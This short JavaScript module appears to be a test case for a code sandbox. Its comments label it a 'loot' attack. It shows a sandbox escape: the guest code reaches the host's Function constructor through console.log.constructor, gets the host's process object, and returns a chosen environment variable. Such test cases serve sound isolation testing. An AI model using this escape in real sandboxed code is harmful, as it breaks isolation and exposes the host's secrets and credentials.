// A function made by the host's constructor sees the host's globalThis.
// guard: a guest imports nothing
// harm: loot
// control: node
// says: of undefined
module.exports = {
  metadata: { name: 'global-of-the-host', cache: 0, match: { contextType: 'github', context: { 'page.attack': { equals: 'global-of-the-host' } } } },
  run(context) {
    const take = console.log.constructor('return globalThis')().process;
    return { type: 'text', content: take.env[context.page.variable] };
  },
};
